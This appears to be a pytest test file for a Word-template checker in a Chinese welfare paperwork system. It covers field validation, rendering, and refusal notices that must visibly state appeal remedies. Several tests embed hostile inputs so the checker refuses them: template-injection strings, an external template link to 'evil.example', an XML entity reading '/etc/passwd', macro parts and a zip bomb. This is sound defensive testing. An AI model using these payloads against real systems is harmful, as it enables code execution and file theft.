"""Word templates: what they may say, what is refused by name, and remedies that are there to be read."""

import io
import zipfile

import pytest

from minzheng.paperwork import forms, word
from minzheng.paperwork.docx_gate import BadTemplate
from minzheng.paperwork.fill import RemediesMissing
from minzheng.paperwork.forms.vocabulary import sample
from tests.factories.word import document, hidden, text_of

REFUSAL, APPLICATION, BOARD = forms.get("refusal"), forms.get("application"), forms.get("publicity_notice")
REMEDIES = "{{ remedies.text }}"


def check(content, form=APPLICATION, name="模板.docx"):
    return word.check(form, content, name)


def repacked(content, **changes):
    """Return the document with parts replaced or added; None takes one away."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for entry in old.namelist():
            if changes.get(entry, b"") is not None:
                new.writestr(entry, changes.get(entry) or old.read(entry))
        for entry in set(changes) - set(old.namelist()):
            new.writestr(entry, changes[entry])
    return out.getvalue()


def test_fields_loops_and_conditions_are_filled():
    content = document(
        "{{ applicant.name }}申请{{ program.name }}，"
        "{% if application.reason %}理由：{{ application.reason }}{% endif %}",
        "{%p for m in members %}",
        "{{ loop.index }}. {{ m.name }}（{{ m.relation }}）",
        "{%p endfor %}",
        table=[
            ["姓名", "年龄"],
            ["{%tr for m in members %}", ""],
            ["{{ m.name }}", "{{ m.age }}"],
            ["{%tr endfor %}", ""],
        ],
        header="{{ issuer }}",
    )

    used = check(content)
    text = text_of(word.render(APPLICATION, content, sample()))

    assert {"applicant.name", "members", "members[].age", "issuer"} <= set(used)
    assert "王样例申请最低生活保障，理由：本人患病" in text
    assert "1. 王样例（户主）\n2. 李样例（妻）" in text
    assert "{" not in text


def test_what_is_unknown_is_left_empty():
    content = document("电话：{{ applicant.phone }}。", "{%p for m in members %}", "{{ m.name }}", "{%p endfor %}")

    assert text_of(word.render(APPLICATION, content, {})).strip() == "电话：。"


def test_what_people_typed_is_never_read_as_markup():
    known = sample()
    known["applicant"]["name"] = "<w:b/>{{ 7*7 }}&amp;"

    text = text_of(word.render(APPLICATION, document("{{ applicant.name }}"), known))

    assert text == "<w:b/>{{ 7*7 }}&amp;"


@pytest.mark.parametrize(
    ("written", "told"),
    [
        ("{{ applicant.nmae }}", "“applicant.nmae”"),
        ("{{ salary }}", "“salary”"),
        ("{% for m in people %}{{ m.name }}{% endfor %}", "“people”"),
        ("{% for m in members %}{{ m.bank }}{% endfor %}", "“members[].bank”"),
        ("{% if case.secret %}x{% endif %}", "“case.secret”"),
        ("{{ m.name }}", "“m.name”"),
    ],
)
def test_an_unknown_field_is_named(written, told):
    with pytest.raises(BadTemplate) as refused:
        check(document(written))

    assert told in str(refused.value)


def test_a_near_name_is_proposed():
    with pytest.raises(BadTemplate, match=r"是不是要写 applicant\.name"):
        check(document("{{ applicant.nam }}"))


def test_an_unknown_field_in_the_header_is_found_there():
    with pytest.raises(BadTemplate, match="页眉里用了不认识的字段“nobody”"):
        check(document("正文", header="{{ nobody }}"))


@pytest.mark.parametrize(
    "written",
    [
        "{{ 1 + 1 }}", "{{ 'a' * 10 ** 9 }}", "{{ applicant.name | upper }}", "{{ applicant.__class__ }}",
        "{{ applicant.name.__class__.__mro__ }}", "{{ range(10) }}", "{{ cycler() }}", "{% set x = 1 %}",
        "{% for i in range(10**9) %}x{% endfor %}", "{% include 'x' %}", "{% import 'os' as x %}",
        "{% macro x() %}{% endmacro %}", "{{ applicant['name'] }}", "{{ self }}",
        "{% for m in members recursive %}{% endfor %}",
        "{{ applicant.name ~ 'x' }}", "{{ lipsum() }}", "{{r applicant.name }}", "{% raw %}x",
    ],
)  # fmt: skip
def test_nothing_is_run(written):
    with pytest.raises(BadTemplate):
        check(document(written))


@pytest.mark.parametrize(
    "written", ["{{ applicant.name", "{% if case.number %}x", "{% endfor %}", "{{ }}", "{% for %}"]
)
def test_broken_marks_are_refused_in_words(written):
    with pytest.raises(BadTemplate, match=r"写法有误|不支持的写法|不认识的字段"):
        check(document(written))


@pytest.mark.parametrize("content", [b"", b"hello", b"PK\x03\x04broken", b"%PDF-1.7", b"\xd0\xcf\x11\xe0 old"])
def test_what_is_no_word_document_is_refused(content):
    with pytest.raises(BadTemplate, match="Word 文档"):
        check(content)


def test_an_ordinary_zip_is_no_document():
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("a.txt", "x")

    with pytest.raises(BadTemplate, match="不是 Word 文档"):
        check(out.getvalue())


def test_macros_and_embedded_objects_are_refused():
    plain = document("正文")

    for part in ("word/vbaProject.bin", "word/embeddings/oleObject1.bin", "word/activeX/activeX1.xml"):
        with pytest.raises(BadTemplate, match="宏或嵌入"):
            check(repacked(plain, **{part: b"x"}))


def test_a_macro_document_under_another_name_is_refused():
    plain = document("正文")
    types = zipfile.ZipFile(io.BytesIO(plain)).read("[Content_Types].xml")
    macro = types.replace(
        b"vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        b"vnd.ms-word.document.macroEnabled.main+xml",
    )

    with pytest.raises(BadTemplate, match="宏"):
        check(repacked(plain, **{"[Content_Types].xml": macro}))


def test_a_bomb_is_not_opened():
    with pytest.raises(BadTemplate, match="解开后过大"):
        check(repacked(document("正文"), **{"word/media/x.bin": b"\0" * 60_000_000}))


def test_too_large_a_file_is_refused_before_it_is_opened():
    with pytest.raises(BadTemplate, match="超过3兆字节"):
        check(b"PK\x03\x04" + b"x" * 4_000_000)


def test_a_document_that_calls_outside_is_refused():
    rels = (
        b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        b'attachedTemplate" Target="http://evil.example/x.dotm" TargetMode="External"/></Relationships>'
    )

    with pytest.raises(BadTemplate, match="连接外部地址"):
        check(repacked(document("正文"), **{"word/_rels/settings.xml.rels": rels}))


def test_entities_are_refused():
    evil = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'

    with pytest.raises(BadTemplate, match="不允许的声明"):
        check(repacked(document("正文"), **{"word/extra.xml": evil}))


def test_a_notice_template_without_remedies_is_refused():
    with pytest.raises(BadTemplate, match=r"remedies\.text"):
        check(document("{{ applicant.name }}：不予确认。"), REFUSAL)


@pytest.mark.parametrize(
    "written",
    [
        "{% if paper.contact %}{{ remedies.text }}{% endif %}",
        "{% for line in decision.lines %}{{ remedies.text }}{% endfor %}",
    ],
)
def test_remedies_under_a_condition_do_not_count(written):
    with pytest.raises(BadTemplate, match="无条件"):
        check(document(written), REFUSAL)


def test_remedies_only_in_the_footer_do_not_reach_the_reader():
    content = document("{{ applicant.name }}", header=REMEDIES)

    with pytest.raises(RemediesMissing, match="读不到完整的救济途径"):
        word.render(REFUSAL, content, sample())


@pytest.mark.parametrize("how", ["hidden", "white", "tiny"])
def test_remedies_that_cannot_be_read_do_not_count(how):
    with pytest.raises(RemediesMissing, match="读不到完整的救济途径"):
        word.render(REFUSAL, hidden(REMEDIES, how=how), sample())


def test_remedies_that_can_be_read_go_out():
    text = text_of(word.render(REFUSAL, document("{{ applicant.name }}", REMEDIES), sample()))

    assert "60日内向样例市人民政府申请行政复议" in text
    assert "6个月内直接向样例市人民法院提起行政诉讼" in text


def test_a_case_without_remedies_has_no_word_notice():
    known = sample()
    del known["remedies"]

    with pytest.raises(RemediesMissing):
        word.render(REFUSAL, document(REMEDIES), known)


@pytest.mark.parametrize("field", ["applicant.id_number", "applicant.name", "household.address", "members"])
def test_a_template_for_the_board_cannot_name_what_is_not_public(field):
    with pytest.raises(BadTemplate, match="不认识的字段"):
        check(document("{{ %s }}" % field), BOARD)  # noqa: UP031 - braces
